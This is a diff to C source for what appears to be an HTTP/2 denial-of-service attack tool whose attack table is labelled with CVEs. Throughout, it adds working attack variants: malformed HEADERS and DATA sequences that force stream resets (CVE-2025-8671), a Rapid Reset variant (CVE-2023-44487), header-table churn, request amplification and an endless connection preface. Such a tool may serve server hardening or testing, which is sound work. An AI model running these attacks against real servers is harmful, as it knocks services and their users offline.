@@ -7,6 +7,10 @@
 
 #include "attack_peer.h"
 
+static uint64_t now_ns; /* of the turn in hand */
+
+#include "attack_subtle.h"
+
 struct attack {
   const char *name;
   const char *what; /* with CVE, for --list */
@@ -21,8 +25,6 @@ struct attack {
 #define MILLISECONDS    1000000u
 #define SLOW_PATH       "/delay/60000"
 #define WIDE            0x7fffffffu
-
-static uint64_t now_ns; /* of the turn in hand */
 
 static void begin_closed(struct peer *peer) {
   put_setting(peer, SETTING_WINDOW, 0);
@@ -73,9 +75,30 @@ static bool step_rapid_reset(struct peer *peer) {
   return true;
 }
 
-/* The six ways to make a server reset a stream (CVE-2025-8671). */
+/* HEADERS that open a stream and depend on it, or that are followed by what does not belong there;
+ * variants 6 and up. */
+static void put_unfinished(struct peer *peer, unsigned variant) {
+  static const uint8_t block[] = {0x83, 0x86, 0x04, 5,    '/',  's', 'i', 'n', 'k',
+                                  0x01, 1,    'a',  0x0f, 0x0d, 1,   '5'}; /* content-length: 5 */
+  const size_t len = variant <= 7 ? sizeof block : sizeof block - 4;
+  const uint32_t id = peer->next_id;
+  peer->next_id += 2;
+  put_frame(peer, HEADERS, END_HEADERS, id, block, len);
+  switch (variant) {
+  case 6: put_frame(peer, DATA, 0, id, "123456", 6); break;                   /* more than that */
+  case 7: put_frame(peer, DATA, END_STREAM, id, "1234", 4); break;            /* less */
+  case 8: put_frame(peer, HEADERS, END_HEADERS, id, "\0\1a\1b", 5); break;    /* no END_STREAM */
+  default: put_frame(peer, HEADERS, END_HEADERS | END_STREAM, id, "\x82", 1); /* :method */
+  }
+}
+
+/* The six ways to make a server reset a stream (CVE-2025-8671), and four more. */
 static bool step_made_reset(struct peer *peer) {
   static const uint8_t zeros[8];
+  if (options.variant >= 6) {
+    put_unfinished(peer, options.variant);
+    return true;
+  }
   const uint32_t id = put_request(peer, false, SLOW_PATH, true);
   const uint8_t itself[5] = {(uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8),
                              (uint8_t)id, 0};
@@ -219,6 +242,17 @@ static bool step_small_data(struct peer *peer) {
   return true;
 }
 
+/* An upload in frames of 10 bytes, of which a window allows enough. */
+static bool step_sink(struct peer *peer) {
+  const uint64_t bytes = 10;
+  hold_open(peer, true, "/sink");
+  if (peer->credit < (int64_t)bytes || peer->stream_credit < (int64_t)bytes) return false;
+  peer->credit -= (int64_t)bytes;
+  peer->stream_credit -= (int64_t)bytes;
+  put_frame(peer, DATA, 0, 1, "0123456789", bytes);
+  return true;
+}
+
 static void begin_bytewise(struct peer *peer) {
   put_setting(peer, SETTING_WINDOW, 1);
   for (int i = 0; i < 100; i++)
@@ -313,10 +347,10 @@ static bool step_nameless(struct peer *peer) {
 }
 
 /* Valid requests whose fields cost the most to decode: Huffman codes, all inserted into the table,
- * which each time evicts (CVE-2022-41723 and header-table churn). */
+ * which each time evicts (CVE-2022-41723 and header-table churn). variant: fields, or 60. */
 static bool step_churn(struct peer *peer) {
   if (peer->in_flight >= 100) return false;
-  const size_t value = 120, fields = 60;
+  const size_t value = 120, fields = options.variant ? options.variant : 60;
   put_block(peer, fields * (value + 4));
   peer->in_flight++;
   for (size_t i = 0; i < fields; i++) {
@@ -398,6 +432,7 @@ static const struct attack attacks[] = {
     {"goaway", "GOAWAY with debug data", step_goaway, NULL, false},
     {"empty-data", "CVE-2019-9518", step_empty_data, NULL, false},
     {"small-data", "CVE-2020-12603", step_small_data, begin_closed, false},
+    {"sink", "an upload in frames of 10 bytes", step_sink, NULL, false},
     {"dribble", "CVE-2019-9511", step_dribble, begin_bytewise, false},
     {"hold", "CVE-2023-43622", step_hold, begin_downloads, false},
     {"download", "CVE-2019-9517", step_download, begin_wide, false},
@@ -409,6 +444,19 @@ static const struct attack attacks[] = {
     {"silent", "no SETTINGS ACK (CVE-2025-53506)", step_idle, NULL, true},
     {"alive", "keep-alive without requests", step_alive, NULL, false},
     {"after-death", "CVE-2026-27135", step_after_death, NULL, false},
+    {"reset-at", "CVE-2023-44487, in the midst of responses", step_reset_at, begin_wide, false},
+    {"reset-half", "every second request is reset", step_reset_half, begin_wide, false},
+    {"amplify", "valid requests of 64 KB, by reference", step_amplify, begin_wide, false},
+    {"crumbs", "cookies in many pieces", step_crumbs, begin_wide, false},
+    {"long-path", "targets of 4 KB, by reference", step_long_path, begin_wide, false},
+    {"new-paths", "another path in each request", step_new_paths, begin_wide, false},
+    {"small-credit", "windows opened in small steps", step_small_credit, begin_closed, false},
+    {"seesaw-large", "INITIAL_WINDOW_SIZE, 32 times a frame", step_seesaw_large, begin_seesaw,
+     false},
+    {"temperate", "some of everything, within the budgets", step_temperate, begin_wide, false},
+    {"regroup", "PRIORITY that moves many streams", step_regroup, begin_wide, false},
+    {"hoard-pushes", "pushes into shut windows", step_hoard_pushes, begin_hoard_pushes, false},
+    {"preface", "a preface that does not end", step_preface, begin_preface, true},
     {"idle", "connections that ask for nothing", step_idle, NULL, false},
 };
 
